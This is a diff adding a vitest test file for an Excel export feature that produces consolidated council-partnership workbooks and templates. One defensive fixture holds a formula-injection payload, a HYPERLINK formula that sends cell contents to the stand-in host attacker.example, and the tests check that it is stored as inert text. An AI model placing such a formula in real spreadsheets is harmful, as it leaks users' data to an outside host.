@@ -1,0 +1,321 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { Resvg } from '@resvg/resvg-js';
+import ExcelJS from 'exceljs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { demoPartnership } from '../../demo/partnership.js';
+import { demoCouncilSubmission, demoSubmissions } from '../../demo/submissions.js';
+import { readWorkbookGrids } from '../../server/workbook/read.js';
+import { writeConsolidatedWorkbook } from '../../server/workbook/write-consolidated.js';
+import { writeCouncilTemplate, writePartnershipWorkbook } from '../../server/workbook/write-template.js';
+import { writeXlsx } from '../../server/workbook/xlsx-writer.js';
+import { consolidate } from '../../shared/consolidate/index.js';
+import {
+  CONSOLIDATED_CONTRIBUTIONS_LAYOUT,
+  CONSOLIDATED_PROJECTS_LAYOUT,
+  CONSOLIDATED_SHEETS,
+  COUNCIL_LAYOUTS,
+  MONEY_FORMAT,
+  PARTNERSHIP_LAYOUTS,
+} from '../../shared/layouts.js';
+import { parseCouncilWorkbook, parsePartnershipWorkbook } from '../../shared/parse/index.js';
+import type { ConsolidatedView } from '../../shared/schemas.js';
+import { sheetsAsLibreOfficeReadsThem } from '../helpers/libreoffice.js';
+import { requireTool } from '../helpers/tools.js';
+import { writtenBytes, zipParts } from '../helpers/xlsx.js';
+
+const PERIOD = '2026-11';
+
+function demoView(): ConsolidatedView {
+  const records = Object.entries(demoSubmissions(PERIOD)).map(([council, data], i) => ({
+    council,
+    period: PERIOD,
+    version: i + 1,
+    submittedAt: `2026-12-0${i + 1}T09:30:00.000Z`,
+    review: 'pending' as const,
+    data,
+  }));
+  return consolidate(demoPartnership, records, PERIOD);
+}
+
+/** Council text that a spreadsheet would run as a formula if it were written as one. */
+const FORMULA_LIKE = {
+  title: '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")',
+  update: '+SUM(1,2)',
+  owner: '@cmd',
+  person: '=1+1',
+};
+
+function viewWithFormulaText(): ConsolidatedView {
+  const view = structuredClone(demoView());
+  const project = view.projects.items[0]!;
+  project.title = FORMULA_LIKE.title;
+  project.update = FORMULA_LIKE.update;
+  view.skills.people[0]!.name = FORMULA_LIKE.person;
+  view.dataQuality.warnings.push({ code: 'test', council: 'cherwell', project: null, message: '-2+3' });
+  return view;
+}
+
+const chartPng = (width: number, height: number): Buffer =>
+  new Resvg(
+    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect width="${width}" height="${height}" fill="#1d70b8"/></svg>`,
+  )
+    .render()
+    .asPng();
+
+const sheetPartsByName = (parts: Map<string, string>): Map<string, string> => {
+  const names = [...(parts.get('xl/workbook.xml') ?? '').matchAll(/<sheet name="([^"]+)" sheetId="(\d+)"/g)];
+  return new Map(names.map(([, name, id]) => [name!, parts.get(`xl/worksheets/sheet${id}.xml`) ?? '']));
+};
+
+describe('the consolidated workbook', () => {
+  it('has the Summary and one Excel table per part of the view, with frozen headers, filters and formats', async () => {
+    const view = demoView();
+    const bytes = await writtenBytes((out) => writeConsolidatedWorkbook(view, out));
+
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(bytes as unknown as ArrayBuffer);
+    expect(book.worksheets.map((w) => w.name)).toEqual([
+      'Summary',
+      'Contributions',
+      'Skills coverage',
+      'People',
+      'Projects',
+      'Data quality',
+      'Submissions',
+    ]);
+    const parts = await zipParts(bytes);
+    const tables = [...parts].filter(([name]) => name.startsWith('xl/tables/')).map(([, xml]) => xml);
+    const layouts = Object.values(CONSOLIDATED_SHEETS).filter((s) => typeof s !== 'string');
+    for (const layout of layouts) {
+      const table = tables.find((t) => t.includes(`name="${layout.table}"`));
+      expect(table, layout.table).toBeDefined();
+      expect([...table!.matchAll(/<tableColumn id="\d+" name="([^"]+)"/g)].map((m) => m[1])).toEqual(
+        layout.columns.map((c) => c.header.replace('&', '&amp;')),
+      );
+      expect(table).toMatch(/<autoFilter ref="A1:[A-Z]+\d+"\/>/);
+      const sheet = book.getWorksheet(layout.sheet)!;
+      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
+    }
+
+    const contributions = book.getWorksheet('Contributions')!;
+    const due = contributions.getColumn(
+      CONSOLIDATED_CONTRIBUTIONS_LAYOUT.columns.findIndex((c) => c.key === 'duePence') + 1,
+    );
+    expect(due.values.slice(2)).toEqual(view.contributions.councils.map((c) => c.duePence / 100));
+    expect(contributions.getCell(2, due.number).numFmt).toBe(MONEY_FORMAT);
+    expect(contributions.getRow(5).getCell(1).value).toBe('west-oxfordshire');
+
+    const summary = book.getWorksheet('Summary')!;
+    const figure = (label: string) => {
+      let value: unknown;
+      summary.eachRow((row) => {
+        if (row.getCell(1).value === label) value = row.getCell(2).value;
+      });
+      return value;
+    };
+    expect(figure('Net cost (£)')).toBe(259_172.63);
+    expect(figure('Skills gaps (no practitioner)')).toBe('Technology operations');
+    expect(figure('Projects')).toBe(view.projects.totals.count);
+  });
+
+  it('colours RAG and status cells with conditional formats', async () => {
+    const parts = sheetPartsByName(
+      await zipParts(await writtenBytes((out) => writeConsolidatedWorkbook(demoView(), out))),
+    );
+    const projects = parts.get('Projects')!;
+    const ragColumn = String.fromCharCode(
+      65 + CONSOLIDATED_PROJECTS_LAYOUT.columns.findIndex((c) => c.key === 'rag'),
+    );
+    expect(projects).toContain(`<conditionalFormatting sqref="${ragColumn}2:${ragColumn}8">`);
+    for (const rag of ['Red', 'Amber', 'Green']) expect(projects).toContain(`<formula>"${rag}"</formula>`);
+    expect(parts.get('Skills coverage')).toContain('<formula>"gap"</formula>');
+    expect(parts.get('Contributions')).toContain('<formula>"behind"</formula>');
+  });
+
+  it('writes council text that looks like a formula as text, never as a formula', async () => {
+    const bytes = await writtenBytes((out) => writeConsolidatedWorkbook(viewWithFormulaText(), out));
+    const parts = await zipParts(bytes);
+    for (const [name, xml] of parts) {
+      if (name.startsWith('xl/worksheets/')) expect(xml, name).not.toMatch(/<f[ >]/);
+    }
+    const grids = await readWorkbookGrids(bytes);
+    const projects = grids.Projects!.values;
+    expect(projects[1]![1]).toBe(FORMULA_LIKE.title);
+    expect(projects[1]!.at(-1)).toBe(FORMULA_LIKE.update);
+    expect(grids.People!.values[1]![0]).toBe(FORMULA_LIKE.person);
+    expect(grids['Data quality']!.values.at(-1)!.at(-1)).toBe('-2+3');
+  });
+
+  it('places chart images on the Summary sheet', async () => {
+    const charts = [
+      { title: 'Contributed against profiled due', png: chartPng(640, 320) },
+      { title: 'Projects by RAG', png: chartPng(400, 400) },
+    ];
+    const parts = await zipParts(
+      await writtenBytes((out) => writeConsolidatedWorkbook(demoView(), out, { charts })),
+    );
+    expect(parts.get('xl/media/image1.png')).toBe(charts[0]!.png.toString('utf8'));
+    expect(parts.get('xl/media/image2.png')).toBe(charts[1]!.png.toString('utf8'));
+    expect(parts.get('xl/worksheets/_rels/sheet1.xml.rels')).toContain('../drawings/drawing1.xml');
+    const drawing = parts.get('xl/drawings/drawing1.xml')!;
+    expect(drawing).toContain('descr="Projects by RAG"');
+    // 640 × 320 shown 560 px wide keeps its proportions: 280 px high.
+    expect(drawing).toContain(`<xdr:ext cx="${560 * 9525}" cy="${280 * 9525}"/>`);
+  });
+
+  it('ends the write with an error, not a hang, when a sheet cannot be produced', async () => {
+    const broken = writtenBytes((out) =>
+      writeXlsx([{ name: 'Data', columns: [{ header: 'A', width: 8 }], rows: [[1]], rowCount: 2 }], out),
+    );
+    await expect(broken).rejects.toThrow(/1 rows written, 2 announced/);
+  });
+});
+
+describe('the council template and the partnership workbook', () => {
+  it('round-trips a council return: what the template holds parses back to the same rows', async () => {
+    const submission = demoCouncilSubmission('south-oxfordshire', PERIOD);
+    const bytes = await writtenBytes((out) =>
+      writeCouncilTemplate(out, {
+        council: 'south-oxfordshire',
+        period: PERIOD,
+        partnership: demoPartnership,
+        submission,
+      }),
+    );
+    const parsed = parseCouncilWorkbook(await readWorkbookGrids(bytes), { partnership: demoPartnership });
+    expect(parsed.problems).toEqual([]);
+    expect(parsed.about).toEqual({ council: 'south-oxfordshire', period: PERIOD, layoutVersion: 1 });
+    expect(parsed.submission).toEqual(submission);
+  });
+
+  it('gives an empty template the three tables, drop-down lists from the partnership and a hidden Lists sheet', async () => {
+    const bytes = await writtenBytes((out) =>
+      writeCouncilTemplate(out, { council: 'cherwell', period: '2027-02', partnership: demoPartnership }),
+    );
+    const parsed = parseCouncilWorkbook(await readWorkbookGrids(bytes), {});
+    expect(parsed.ok).toBe(true);
+    expect(parsed.submission).toEqual({ period: '2027-02', contributions: [], skills: [], projects: [] });
+
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(bytes as unknown as ArrayBuffer);
+    expect(book.worksheets.map((w) => [w.name, w.state])).toEqual([
+      ['About', 'visible'],
+      ['Contributions', 'visible'],
+      ['Skills', 'visible'],
+      ['Projects', 'visible'],
+      ['Lists', 'hidden'],
+    ]);
+    const lists = book.getWorksheet('Lists')!;
+    const listColumn = (title: string) => {
+      const column = (lists.getRow(1).values as unknown[]).indexOf(title);
+      return (lists.getColumn(column).values as unknown[])
+        .slice(2)
+        .filter((v) => v !== undefined && v !== null);
+    };
+    expect(listColumn('Budget lines')).toEqual(demoPartnership.budget.map((b) => b.budgetLine));
+    expect(listColumn('Councils')).toEqual(demoPartnership.councils.map((c) => c.id));
+
+    const sheets = sheetPartsByName(await zipParts(bytes));
+    for (const layout of COUNCIL_LAYOUTS) {
+      const xml = sheets.get(layout.sheet)!;
+      for (const column of layout.columns.filter((c) => c.list)) {
+        const letter = String.fromCharCode(65 + layout.columns.indexOf(column));
+        expect(xml, `${layout.sheet} ${column.header}`).toMatch(
+          new RegExp(
+            `<dataValidation type="list"[^>]*sqref="${letter}2:${letter}1001"><formula1>Lists!\\$[A-Z]+\\$2:`,
+          ),
+        );
+      }
+    }
+    expect(sheets.get('Skills')).toContain('<formula1>0</formula1><formula2>23</formula2>');
+  });
+
+  it('round-trips the partnership workbook', async () => {
+    const bytes = await writtenBytes((out) => writePartnershipWorkbook(out, demoPartnership));
+    const { partnership, problems } = parsePartnershipWorkbook(await readWorkbookGrids(bytes));
+    expect(problems).toEqual([]);
+    expect(partnership).toEqual(demoPartnership);
+    const sheets = sheetPartsByName(await zipParts(bytes));
+    expect([...sheets.keys()]).toEqual(['Settings', ...PARTNERSHIP_LAYOUTS.map((l) => l.sheet), 'Lists']);
+    expect(sheets.get('Settings')).toMatch(/<dataValidation type="list"[^>]*sqref="B3:B3">/);
+  });
+});
+
+const hasLibreOffice = requireTool('libreoffice');
+
+describe.skipIf(!hasLibreOffice)('opened in LibreOffice', () => {
+  let dir: string;
+  beforeAll(async () => {
+    dir = await mkdtemp(path.join(tmpdir(), 'consolidated-'));
+  });
+  afterAll(async () => {
+    await rm(dir, { recursive: true, force: true });
+  });
+
+  it('shows the consolidated figures of the JSON view, and formula-like text as text', async () => {
+    const view = viewWithFormulaText();
+    const file = path.join(dir, 'consolidated.xlsx');
+    await writeFile(file, await writtenBytes((out) => writeConsolidatedWorkbook(view, out)));
+    const sheets = await sheetsAsLibreOfficeReadsThem(file);
+    expect(Object.keys(sheets).sort()).toEqual(
+      [
+        'Contributions',
+        'Data quality',
+        'People',
+        'Projects',
+        'Skills coverage',
+        'Submissions',
+        'Summary',
+      ].sort(),
+    );
+
+    const [header, ...rows] = sheets.Contributions!;
+    expect(header).toEqual(CONSOLIDATED_CONTRIBUTIONS_LAYOUT.columns.map((c) => c.header));
+    const pence = (column: string) => {
+      const index = header!.indexOf(column);
+      return rows.map((r) => Math.round(Number(r[index]) * 100));
+    };
+    const sum = (values: number[]) => values.reduce((a, b) => a + b, 0);
+    const { totals, councils } = view.contributions;
+    expect(pence('Due (£)')).toEqual(councils.map((c) => c.duePence));
+    expect(sum(pence('Due (£)'))).toBe(totals.duePence);
+    expect(sum(pence('Contributed (£)'))).toBe(totals.contributedPence);
+    expect(sum(pence('Balance (£)'))).toBe(totals.balancePence);
+
+    const summary = new Map(sheets.Summary!.map((r) => [r[0], r[1]]));
+    expect(Math.round(Number(summary.get('Net cost (£)')) * 100)).toBe(view.contributions.netCostPence);
+    expect(Math.round(Number(summary.get('Contributed to date (£)')) * 100)).toBe(totals.contributedPence);
+
+    const projects = sheets.Projects!;
+    expect(projects[1]![1]).toBe(FORMULA_LIKE.title);
+    expect(projects[1]!.at(-1)).toBe(FORMULA_LIKE.update);
+    expect(sum(projects.slice(1).map((r) => Math.round(Number(r[10]) * 100)))).toBe(
+      view.projects.totals.spentPence,
+    );
+  });
+
+  it('opens a pre-filled council template with its About values', async () => {
+    const file = path.join(dir, 'cherwell.xlsx');
+    const submission = demoCouncilSubmission('cherwell', PERIOD);
+    await writeFile(
+      file,
+      await writtenBytes((out) =>
+        writeCouncilTemplate(out, {
+          council: 'cherwell',
+          period: PERIOD,
+          partnership: demoPartnership,
+          submission,
+        }),
+      ),
+    );
+    const sheets = await sheetsAsLibreOfficeReadsThem(file);
+    expect(sheets.About!.slice(1, 4)).toEqual([
+      ['Council ID', 'cherwell'],
+      ['Period', PERIOD],
+      ['Layout version', '1'],
+    ]);
+    expect(sheets.Projects!.length - 1).toBe(submission.projects.length);
+  });
+});
